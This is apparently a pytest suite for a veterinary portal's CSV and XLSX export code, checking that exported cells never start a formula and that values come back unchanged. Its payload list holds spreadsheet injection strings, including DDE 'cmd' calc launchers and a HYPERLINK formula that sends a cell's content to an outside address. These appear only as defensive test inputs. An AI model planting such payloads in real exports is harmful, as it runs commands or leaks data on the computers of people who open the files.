"""Downloads: no formula cell in any program that opens them, and the same values when they come back."""

import csv
import datetime as dt
import io
import tempfile
import zipfile
from collections.abc import Iterator, Sequence
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from python_calamine import CalamineWorkbook

from vetportal.files import writer
from vetportal.files.cells import clean_text, fault_of
from vetportal.files.quoting import is_risky, protect, unprotect
from vetportal.files.reader import read_table
from vetportal.files.writer import Cell, safe_cell, write_csv, write_xlsx

PAYLOADS = [
    "=1+1",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "==1+1",
    '=HYPERLINK("http://203.0.113.9/?x="&A1,"click")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "|calc",
    "%0A=1",
    "-",
    "+61 3 9000 0000",
    "'=1+1",
    "''=1+1",
    "' =1+1",
    "'",
    "''",
    "'t Hart",
    "O'Brien",
    "{{ settings.SECRET_KEY }}",
    "http://203.0.113.9/",
    "_x0041_",
    "0012",
    "1e5",
    "TRUE",
    "a;=1+1",
    'a "quoted" text, with comma',
    "李雷",
]
COLUMNS = ["a", "b"]


def csv_file(rows: Sequence[Sequence[Cell]], columns: Sequence[str] = COLUMNS) -> bytes:
    return b"".join(write_csv(columns, rows))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_csv_cell_starts_a_formula(payload: str) -> None:
    cells = list(csv.reader(io.StringIO(csv_file([[payload, "x"]]).decode("utf-8-sig"), newline="")))[1]
    assert cells[0].lstrip(" \u00a0\ufeff\t\r\n")[:1] not in set("=+-@|%＝＋－＠")
    assert cells[0][:1] not in {"\t", "\r", "\n"}
    assert cells[0] in (payload, "'" + payload)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_xlsx_cell_is_a_formula_a_link_or_a_number(payload: str) -> None:
    content = write_xlsx(COLUMNS, [[payload, "x"]], sheet="S")
    cell = openpyxl.load_workbook(io.BytesIO(content)).active["A2"]
    assert cell.data_type in ("s", "inlineStr")
    assert cell.hyperlink is None
    assert cell.quotePrefix == is_risky(payload)
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")
    value = CalamineWorkbook.from_filelike(io.BytesIO(content)).get_sheet_by_index(0).to_python()[1][0]
    assert value in (payload, "'" + payload)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_every_text_comes_back(payload: str) -> None:
    for content in (csv_file([[payload, "x"]]), write_xlsx(COLUMNS, [[payload, "x"]], sheet="S")):
        table = read_table(content, filename="f", required=COLUMNS)
        assert [row.values["a"] for row in table.rows] == [payload.strip().strip("\ufeff")]


@settings(max_examples=500, deadline=None)
@given(st.text(alphabet=st.sampled_from("'=+-@|% \t\u00a0＝aé1\""), max_size=8))
def test_the_protecting_quote_is_taken_away_exactly(text: str) -> None:
    assert unprotect(protect(text)) == text


@settings(max_examples=150, deadline=None)
@given(st.lists(st.lists(st.text(max_size=12), min_size=2, max_size=2), max_size=4))
def test_clean_text_survives_both_formats(rows: list[list[str]]) -> None:
    cleaned = [[clean_text(text) for text in row] for row in rows]
    kept = [row for row in cleaned if any(row) and not any(map(fault_of, row)) and all(map(_stable, row))]
    for content in (csv_file(kept), write_xlsx(COLUMNS, kept, sheet="S")):
        table = read_table(content, filename="f", required=COLUMNS)
        assert [[row.values["a"], row.values["b"]] for row in table.rows] == kept


def _stable(text: str) -> bool:
    return clean_text(protect(text)) == text


def test_numbers_stay_numbers_and_empty_stays_empty() -> None:
    row: list[Cell] = [-15, Decimal("-1.50"), None, "", dt.date(2019, 5, 6), 0, Decimal("1E+3")]
    columns = list("abcdefg")
    assert csv_file([row], columns).splitlines()[1] == b"-15,-1.50,,,2019-05-06,0,1000"
    sheet = openpyxl.load_workbook(io.BytesIO(write_xlsx(columns, [row], sheet="S"))).active
    cells = list(sheet[2])
    assert [cell.value for cell in cells] == [-15, -1.5, None, None, dt.datetime(2019, 5, 6), 0, 1000]  # noqa: DTZ001 - a cell has no zone
    assert [cells[1].number_format, cells[4].number_format] == ["0.00", "yyyy-mm-dd"]
    assert cells[0].data_type == "n"


def test_what_excel_would_round_or_misdate_is_written_as_text() -> None:
    row: list[Cell] = [12345678901234567, Decimal("0.12345678901234567"), dt.date(1899, 12, 31)]
    sheet = openpyxl.load_workbook(io.BytesIO(write_xlsx(list("abc"), [row], sheet="S"))).active
    assert [cell.value for cell in sheet[2]] == ["12345678901234567", "0.12345678901234567", "1899-12-31"]


@pytest.mark.parametrize("value", [1.5, True, b"x", dt.datetime(2019, 5, 6, 12)])  # noqa: DTZ001 - has to be refused
def test_values_without_an_agreed_form_are_refused(value: object) -> None:
    with pytest.raises(TypeError):
        safe_cell(value)  # type: ignore[arg-type]
    with pytest.raises(TypeError):
        write_xlsx(["a"], [[value]], sheet="S")  # type: ignore[list-item]


@pytest.mark.parametrize("number", ["NaN", "Infinity"])
def test_decimals_that_are_not_numbers_are_refused(number: str) -> None:
    with pytest.raises(ValueError, match="not a number"):
        safe_cell(Decimal(number))


def test_controls_are_shown_and_never_stop_an_export() -> None:
    text = "Ja\x0bne\x00\x7f\x9b\ud800\uffff"
    shown = "Ja␋ne␀␡\ufffd\ufffd\ufffd"
    assert csv_file([[text, "x"]]).decode("utf-8-sig").splitlines()[1] == f"{shown},x"
    sheet = openpyxl.load_workbook(io.BytesIO(write_xlsx(COLUMNS, [[text, "x"]], sheet="S"))).active
    assert sheet["A2"].value == shown


def test_a_text_too_long_for_excel_is_cut_and_says_so() -> None:
    sheet = openpyxl.load_workbook(io.BytesIO(write_xlsx(COLUMNS, [["😀" * 20_000, "x"]], sheet="S"))).active
    assert sheet["A2"].value.endswith("see the CSV file)")
    assert len(sheet["A2"].value.encode("utf-16-le")) // 2 <= 32_767


def test_more_rows_than_a_sheet_holds_are_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(writer, "_EXCEL_ROWS", 3)
    assert write_xlsx(["a"], [["1"]] * 2, sheet="S")
    with pytest.raises(ValueError, match="CSV"):
        write_xlsx(["a"], [["1"]] * 3, sheet="S")


def test_headings_are_protected_too() -> None:
    assert csv_file([], ["=a", "b"]) == b"\xef\xbb\xbf'=a,b\r\n"


def test_the_byte_order_mark_is_a_choice() -> None:
    assert b"".join(write_csv(["a"], [["é"]], byte_order_mark=False)) == "a\r\né\r\n".encode()


def test_a_csv_file_streams() -> None:
    taken = 0

    def rows() -> Iterator[list[Cell]]:
        nonlocal taken
        for taken in range(1, 100_001):
            yield [taken, "x" * 20]

    pieces = write_csv(COLUMNS, rows())
    next(pieces)
    next(pieces)
    assert taken < 3_000
    assert sum(piece.count(b"\n") for piece in pieces) > 97_000
    assert taken == 100_000


def test_a_workbook_is_written_to_a_given_file() -> None:
    target = io.BytesIO()
    assert write_xlsx(COLUMNS, [["1", "2"]], sheet="S", target=target) == b""
    assert openpyxl.load_workbook(target).active["B2"].value == "2"


def test_no_working_file_stays_behind(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))

    def rows() -> Iterator[list[Cell]]:
        yield ["Citizen", "x"]
        raise LookupError("the database went away")

    target = io.BytesIO()
    write_xlsx(COLUMNS, [["Citizen", "x"]], sheet="S")
    with pytest.raises(LookupError):
        write_xlsx(COLUMNS, rows(), sheet="S", target=target)
    assert target.getvalue() == b""
    assert list(tmp_path.iterdir()) == []
